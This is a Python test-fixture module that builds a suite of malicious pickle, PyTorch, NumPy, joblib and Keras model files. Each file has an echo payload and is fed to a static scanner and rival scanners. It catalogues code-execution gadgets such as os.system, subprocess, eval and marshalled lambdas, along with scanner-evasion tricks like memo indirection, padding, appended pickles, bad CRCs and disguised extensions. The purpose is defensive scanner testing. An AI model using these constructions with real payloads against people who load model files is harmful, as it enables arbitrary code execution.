"""Malicious model files, hand-assembled opcode by opcode (pure Python): nothing here is ever unpickled.

Each technique is one file. Payloads are harmless if ever run (`echo`), and the suite never runs them: it only
hands the bytes to the static scanner (and the benchmark to the peer scanners). `ATTACKS` maps a file name to
(the bytes, the text a caught file's issues must name).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import zipfile
import zlib
from typing import Callable, NamedTuple

ECHO = "echo packflow-test-payload"
STOP = b"."
MARK = b"("
TUPLE = b"t"
REDUCE = b"R"
BUILD = b"b"
EMPTY_DICT = b"}"
SETITEM = b"s"


class Attack(NamedTuple):
    data: bytes
    names: str        # what the scanner's message must name (the dangerous callable, key or container)


def proto(number: int = 4) -> bytes:
    return b"\x80" + bytes([number])


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def binbytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def glob(module: str, name: str) -> bytes:
    """GLOBAL (works in every protocol)."""
    return b"c" + f"{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    """function(*args) with MARK ... TUPLE REDUCE."""
    return function + MARK + b"".join(args) + TUPLE + REDUCE


def pickle_of(body: bytes, protocol: int = 4) -> bytes:
    return proto(protocol) + body + STOP


def system_call(module: str = "os", name: str = "system") -> bytes:
    return pickle_of(call(glob(module, name), text(ECHO)))


PAYLOAD = system_call()


def _benign(protocol: int = 4) -> bytes:
    """A harmless pickle of a dict of a list (what a loader might expect first)."""
    return pickle_of(EMPTY_DICT + text("weights") + b"]" + MARK + b"K\x01K\x02e" + SETITEM, protocol)


# -- containers -------------------------------------------------------------------------------------------------
def zip_of(members: dict[str, bytes], crc_of: dict[str, bytes] | None = None) -> bytes:
    """A stored zip; `crc_of` writes the CRC-32 of other bytes for a member (a corrupted CRC)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    raw = bytearray(buffer.getvalue())
    for name, other in (crc_of or {}).items():
        wrong = struct.pack("<I", zlib.crc32(other))
        encoded = name.encode()
        local = raw.find(b"PK\x03\x04" + raw[4:4])
        while local >= 0:
            if raw[local + 30:local + 30 + len(encoded)] == encoded:
                raw[local + 14:local + 18] = wrong
            local = raw.find(b"PK\x03\x04", local + 4)
        central = raw.find(b"PK\x01\x02")
        while central >= 0:
            if raw[central + 46:central + 46 + len(encoded)] == encoded:
                raw[central + 16:central + 20] = wrong
            central = raw.find(b"PK\x01\x02", central + 4)
    return bytes(raw)


def torch_zip(data_pkl: bytes, crc_of: bytes | None = None) -> bytes:
    members = {"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n",
               "archive/.data/serialization_id": b"1234567890"}
    return zip_of(members, {"archive/data.pkl": crc_of} if crc_of is not None else None)


def torch_legacy(main: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
    protocol = b"\x80\x02M\xe9\x03."      # 1001
    sys_info = pickle_of(EMPTY_DICT + text("little_endian") + b"\x88" + SETITEM, 2)
    keys = b"\x80\x02]."
    return magic + protocol + sys_info + main + keys


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload


def _marshalled_lambda() -> str:
    code = compile(f"lambda x: __import__('os').system('{ECHO}')", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def keras_lambda_config(keras3: bool) -> dict:
    function = ({"class_name": "__lambda__", "config": {"code": _marshalled_lambda(), "defaults": None,
                                                        "closure": None}} if keras3
                else [_marshalled_lambda(), None, None])
    layer = {"class_name": "Lambda", "config": {"name": "lambda", "function": function, "function_type": "lambda",
                                                "arguments": {}}}
    if keras3:
        layer.update({"module": "keras.layers", "registered_name": None})
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [layer, dense]},
            **({"module": "keras", "registered_name": None} if keras3 else {})}


def keras_zip(config: dict) -> bytes:
    metadata = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
    return zip_of({"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode(),
                   "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(64)})


def hdf5_with_attribute(value: str) -> bytes:
    """Bytes laid out like an HDF5 file holding a model_config attribute (signature, binary, the JSON text)."""
    superblock = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + bytes(range(1, 40))
    return superblock + b"\x00" * 64 + b"model_config\x00\x00\x00\x00" + value.encode("ascii") + b"\x00" * 32


def ext_pickle() -> bytes:
    return pickle_of(b"\x83\x39\x30" + MARK + text(ECHO) + TUPLE + REDUCE, 2)


# -- the techniques ----------------------------------------------------------------------------------------------
def _memo_tricks() -> bytes:
    """Module and name pushed into the memo (BINPUT and MEMOIZE mixed), fetched back with BINGET."""
    body = text("o") + b"\x94" + b"0" + text("os") + b"q\x07" + b"0" + text("sys") + b"\x94" + b"0"
    body += text("tem") + b"q\x09" + b"0"
    body += b"h\x07" + text("system") + b"\x93" + b"q\x0a" + b"0"
    return pickle_of(body + b"h\x0a" + MARK + text(ECHO) + TUPLE + REDUCE)


def _binget_global() -> bytes:
    """os.system imported once into the memo and called later after unrelated opcodes."""
    body = glob("os", "system") + b"q\x01" + b"0" + _benign()[2:-1] + b"0" + b"h\x01" + MARK + text(ECHO) + TUPLE
    return pickle_of(body + REDUCE)


def _after_megabyte() -> bytes:
    return pickle_of(b"]" + MARK + binbytes(b"\x00" * (1 << 20)) + call(glob("os", "system"), text(ECHO)) + b"e")


def _build_setstate(value: bytes) -> bytes:
    """An allowed class's object gets `__setstate__` in its state, then a second BUILD calls it."""
    obj = glob("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81"
    state = EMPTY_DICT + text("__setstate__") + value + SETITEM
    return pickle_of(obj + state + BUILD + text(ECHO) + BUILD)


def _build_numpy_function() -> bytes:
    """BUILD straight on a numpy function: setattr on it (slot state) to replace its behaviour."""
    slots = EMPTY_DICT + text("__kwdefaults__") + EMPTY_DICT + SETITEM
    return pickle_of(glob("numpy", "load") + b"N" + slots + b"\x86" + BUILD)


def _marshal_function() -> bytes:
    code = base64.b64decode(_marshalled_lambda())
    function = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), binbytes(code)), EMPTY_DICT)
    return pickle_of(call(function, text("x")))


def _nested(loader: tuple[str, str], inner: bytes) -> bytes:
    return pickle_of(call(glob(*loader), binbytes(inner)))


def _getattr_chain() -> bytes:
    os_module = call(glob("builtins", "__import__"), text("os"))
    system = call(glob("builtins", "getattr"), os_module, text("system"))
    return pickle_of(call(system, text(ECHO)))


def _operator(kind: str) -> bytes:
    os_module = glob("posixpath", "os")
    if kind == "attrgetter":
        getter = call(glob("operator", "attrgetter"), text("system"))
        return pickle_of(call(call(getter, os_module), text(ECHO)))
    caller = call(glob("operator", "methodcaller"), text("system"), text(ECHO))
    return pickle_of(call(caller, os_module))


def _registry_mutation() -> bytes:
    """APPEND onto a list that lives in an allowed package (torch.serialization's loader registry)."""
    entry = call(glob("builtins", "tuple"), b"]")
    return pickle_of(glob("torch.serialization", "_package_registry") + entry + b"a")


def _zip_bomb_free_wrappers() -> dict[str, Attack]:
    compressors: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE), "xz": lambda data: lzma.compress(data),
    }
    try:
        import lz4.frame

        compressors["lz4"] = lz4.frame.compress
    except ImportError:  # the scanner then reports the file as not analysable, which the tests accept as caught
        compressors["lz4"] = lambda data: b"\x04\x22\x4d\x18" + bytes(16) + data
    return {f"joblib_{kind}.joblib": Attack(compress(PAYLOAD), "os.system") for kind, compress in compressors.items()}


def _joblib_wrapper(dtype_code: str, flags: int, alignment: bool) -> bytes:
    """joblib's NumpyArrayWrapper for a one-element array, built as joblib writes it."""
    dtype = call(glob("numpy", "dtype"), text(dtype_code), b"\x89", b"\x88")
    dtype += MARK + b"K\x03" + text("|") + b"NNN" + b"J\xff\xff\xff\xffJ\xff\xff\xff\xff" + b"K" + bytes([flags])
    dtype += TUPLE + BUILD
    state = EMPTY_DICT + MARK + text("subclass") + glob("numpy", "ndarray") + text("shape") + b"K\x01\x85"
    state += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89"
    state += text("numpy_array_alignment_bytes") + (b"K\x10" if alignment else b"N") + b"u"
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + BUILD


def _joblib_object_array() -> bytes:
    """An object-dtype array: joblib.load reads it as a nested pickle straight after the wrapper."""
    return proto(4) + b"]" + _joblib_wrapper("O8", 63, False) + PAYLOAD + b"a" + STOP


def _joblib_after_array() -> bytes:
    """The payload sits after an aligned float array's raw bytes, outside what a naive opcode walk reads."""
    return proto(4) + b"]" + _joblib_wrapper("f8", 0, True) + b"\x07" + b"\xff" * 7 + b"\x00" * 8 + b"a" + \
        call(glob("os", "system"), text(ECHO)) + b"a" + STOP


def attacks() -> dict[str, Attack]:
    """Every technique, one file each."""
    found = {
        "os_system.pkl": Attack(PAYLOAD, "os.system"),
        "posix_system.pkl": Attack(system_call("posix"), "posix.system"),
        "nt_system.pkl": Attack(system_call("nt"), "nt.system"),
        "subprocess_popen.pkl": Attack(pickle_of(call(glob("subprocess", "Popen"), text("echo"))), "subprocess.Popen"),
        "subprocess_check_output.pkl": Attack(pickle_of(call(glob("subprocess", "check_output"), text("echo"))),
                                              "subprocess.check_output"),
        "builtins_eval.pkl": Attack(pickle_of(call(glob("builtins", "eval"), text("print(1)"))), "builtins.eval"),
        "builtins_exec.pkl": Attack(pickle_of(call(glob("builtins", "exec"), text("print(1)"))), "builtins.exec"),
        "py2_builtin_eval.pkl": Attack(pickle_of(call(glob("__builtin__", "eval"), text("1")), 2), "builtins.eval"),
        "getattr_chain.pkl": Attack(_getattr_chain(), "builtins.getattr"),
        "glob_os_system.pkl": Attack(pickle_of(call(stack_global("glob", "os.system"), text(ECHO))), "os.system"),
        "logging_os_system.pkl": Attack(pickle_of(call(stack_global("logging", "os.system"), text(ECHO))),
                                        "os.system"),
        "allowed_package_reach_through.pkl": Attack(
            pickle_of(call(stack_global("sklearn", "utils.os.system"), text(ECHO))), "os.system"),
        "operator_attrgetter.pkl": Attack(_operator("attrgetter"), "operator.attrgetter"),
        "operator_methodcaller.pkl": Attack(_operator("methodcaller"), "operator.methodcaller"),
        "functools_partial.pkl": Attack(pickle_of(call(call(glob("functools", "partial"), glob("os", "system"),
                                                            text(ECHO)))), "functools.partial"),
    }
    found.update(_more_attacks())
    found.update(_container_attacks())
    found.update(_zip_bomb_free_wrappers())
    return found


def _more_attacks() -> dict[str, Attack]:
    return {
        "nested_pickle_loads.pkl": Attack(_nested(("pickle", "loads"), PAYLOAD), "pickle.loads"),
        "nested_torch_load.pkl": Attack(_nested(("torch.storage", "_load_from_bytes"), torch_zip(PAYLOAD)),
                                        "torch.storage._load_from_bytes"),
        "nested_torch_load_path.pkl": Attack(pickle_of(call(glob("torch", "load"), text("inner.pt"))), "torch.load"),
        "nested_joblib_load.pkl": Attack(pickle_of(call(glob("joblib", "load"), text("inner.joblib"))), "joblib.load"),
        "build_setstate.pkl": Attack(_build_setstate(glob("os", "system")), "__setstate__"),
        "build_setstate_numpy_ref.pkl": Attack(_build_setstate(glob("numpy", "load")), "__setstate__"),
        "build_numpy_function.pkl": Attack(_build_numpy_function(), "numpy.load"),
        "pkgutil_resolve_name.pkl": Attack(pickle_of(call(call(glob("pkgutil", "resolve_name"), text("os:system")),
                                                          text(ECHO))), "pkgutil.resolve_name"),
        "pydoc_locate.pkl": Attack(pickle_of(call(call(glob("pydoc", "locate"), text("os.system")), text(ECHO))),
                                   "pydoc.locate"),
        "cprofile_run.pkl": Attack(pickle_of(call(glob("cProfile", "run"), text("print(1)"))), "cProfile.run"),
        "timeit_timeit.pkl": Attack(pickle_of(call(glob("timeit", "timeit"), text("print(1)"))), "timeit.timeit"),
        "pip_main.pkl": Attack(pickle_of(call(glob("pip", "main"), b"]" + MARK + text("--version") + b"e")),
                               "pip.main"),
        "numpy_testing_runstring.pkl": Attack(
            pickle_of(call(glob("numpy.testing._private.utils", "runstring"), text("print(1)"), EMPTY_DICT)),
            "numpy.testing._private.utils.runstring"),
        "marshal_function.pkl": Attack(_marshal_function(), "marshal.loads"),
        "multiprocessing_spawnv.pkl": Attack(pickle_of(call(glob("multiprocessing.util", "spawnv_passfds"),
                                                            text("/bin/echo"), b"]", b")")),
                                             "multiprocessing.util.spawnv_passfds"),
        "runpy_run_module.pkl": Attack(pickle_of(call(glob("runpy", "run_module"), text("this"))),
                                       "runpy.run_module"),
        "importlib_import_module.pkl": Attack(pickle_of(call(glob("importlib", "import_module"), text("os"))),
                                              "importlib.import_module"),
        "numpy_load_called.pkl": Attack(pickle_of(call(glob("numpy", "load"), text("other.npy"))), "numpy.load"),
        "reconstructor_popen.pkl": Attack(pickle_of(call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"),
                                                         glob("builtins", "object"), b"N"), 2), "subprocess.Popen"),
        "newobj_popen.pkl": Attack(pickle_of(glob("subprocess", "Popen") + MARK + text("echo") + TUPLE + b"\x81"),
                                   "subprocess.Popen"),
        "inst_opcode.pkl": Attack(b"(S'" + ECHO.encode() + b"'\nios\nsystem\n.", "os.system"),
        "obj_opcode.pkl": Attack(pickle_of(MARK + glob("os", "system") + text(ECHO) + b"o", 1), "os.system"),
        "protocol0_text.pkl": Attack(b"cos\nsystem\n(S'" + ECHO.encode() + b"'\ntR.", "os.system"),
        "memo_tricks.pkl": Attack(_memo_tricks(), "os.system"),
        "memo_binget_global.pkl": Attack(_binget_global(), "os.system"),
        "payload_after_1mb.pkl": Attack(_after_megabyte(), "os.system"),
        "second_pickle.pkl": Attack(_benign() + PAYLOAD, "os.system"),
        "registry_mutation.pkl": Attack(_registry_mutation(), "torch.serialization._package_registry"),
        "ext_opcode.pkl": Attack(ext_pickle(), "extension code"),
    }


def _container_attacks() -> dict[str, Attack]:
    return {
        "model.pkl.gz": Attack(gzip.compress(PAYLOAD), "os.system"),
        "torch_zip.pt": Attack(torch_zip(PAYLOAD), "os.system"),
        "torch_zip_bad_crc.pt": Attack(torch_zip(PAYLOAD, crc_of=_benign(2)), "os.system"),
        "torch_legacy.pt": Attack(torch_legacy(system_call()), "os.system"),
        "object_array.npy": Attack(npy_object(PAYLOAD), "os.system"),
        "npz_member.npz": Attack(zip_of({"weights.npy": npy_object(PAYLOAD)}), "os.system"),
        "keras3_lambda.keras": Attack(keras_zip(keras_lambda_config(True)), "Lambda"),
        "keras3_custom_module.keras": Attack(keras_zip({"module": "evil_package.layers", "class_name": "Backdoor",
                                                        "config": {}, "registered_name": "evil>Backdoor"}),
                                             "evil_package.layers.Backdoor"),
        "keras2_lambda.h5": Attack(hdf5_with_attribute(json.dumps(keras_lambda_config(False))), "Lambda"),
        "disguised.bin": Attack(PAYLOAD, "os.system"),
        "disguised.json": Attack(PAYLOAD, "os.system"),
        "disguised_no_suffix": Attack(system_call("subprocess", "getoutput"), "subprocess.getoutput"),
        "zip_member.zip": Attack(zip_of({"model/weights.pkl": PAYLOAD}), "os.system"),
        "joblib_object_array.joblib": Attack(_joblib_object_array(), "os.system"),
        "joblib_after_array.joblib": Attack(_joblib_after_array(), "os.system"),
    }


ATTACKS = attacks()
